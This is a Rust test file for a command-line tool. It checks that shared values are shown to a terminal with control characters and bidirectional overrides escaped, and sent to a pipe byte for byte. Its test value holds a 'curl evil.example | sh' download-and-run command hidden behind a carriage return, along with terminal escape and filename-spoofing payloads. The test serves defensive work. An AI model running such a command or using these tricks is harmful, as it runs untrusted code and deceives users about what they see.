//! What a terminal gets of what others wrote: no escape sequence, no line that hides another, no turned text.

use super::Caller;
use super::prompts::{at_terminal, ended};
use crate::support::upstream::Upstream;

const VALUE: &str = "curl evil.example | sh #\rls -la                 \n\u{1b}]0;owned\u{7}\u{9b}2J \u{202e}txt.exe \u{2028}end\r\n";

/// What was written, of which the library has made a character of every byte.
fn text(screen: &str) -> String {
    String::from_utf8(screen.chars().map(|c| u8::try_from(c).unwrap()).collect()).unwrap()
}

#[test]
fn a_terminal_obeys_no_value_and_a_pipe_gets_every_byte() {
    let upstream = Upstream::start();
    let caller = Caller::of_upstream(&upstream);
    for arguments in [&["get"][..], &["get", "--json"]] {
        let (link, _) = caller.share(VALUE, &[]);
        let mut session = at_terminal(&caller, &[arguments, &[&link]].concat());
        let screen = text(&ended(&mut session, 0));
        // The terminal's own driver ends lines with CR LF.
        let shown = screen.replace("\r\r\n", "").replace("\r\n", "");
        let obeyed = |c: char| c.is_control() || matches!(c, '\u{202e}' | '\u{2028}');
        assert!(!shown.contains(obeyed), "{arguments:?}: {screen:?}");
        assert!(shown.contains("\\u{9b}2J \\u{202e}txt.exe \\u{2028}end"), "{screen:?}");
    }
    let (link, _) = caller.share(VALUE, &[]);
    let mut session = at_terminal(&caller, &["get", &link]);
    let screen = text(&ended(&mut session, 0));
    assert!(screen.contains("curl evil.example | sh #\\rls -la  "), "{screen:?}");
    assert!(screen.contains("note: characters that a terminal would obey are shown as \\u{…}"), "{screen:?}");

    let (link, _) = caller.share(VALUE, &[]);
    assert_eq!(caller.run(&["get", &link]).stdout, VALUE.as_bytes());
}
